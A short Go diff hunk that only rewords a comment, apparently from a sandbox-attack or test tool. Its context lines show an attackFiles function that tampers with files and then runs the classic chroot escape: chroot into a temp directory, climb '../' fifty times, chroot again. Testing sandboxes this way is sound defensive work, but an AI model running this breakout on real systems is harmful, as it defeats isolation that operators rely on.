@@ -32,7 +32,7 @@ func attackFiles(marker, text string, args []string) {
 		tamperFile(route, text)
 	}
 	openHandle(text, args[0])
-	if dir, err := os.MkdirTemp("", ""); err == nil { // the oldest way out of chroot
+	if dir, err := os.MkdirTemp("", ""); err == nil { // the oldest escape from a chroot
 		if err := unix.Chroot(dir); err == nil {
 			_ = os.Chdir(strings.Repeat("../", 50))
 			_ = unix.Chroot(".")
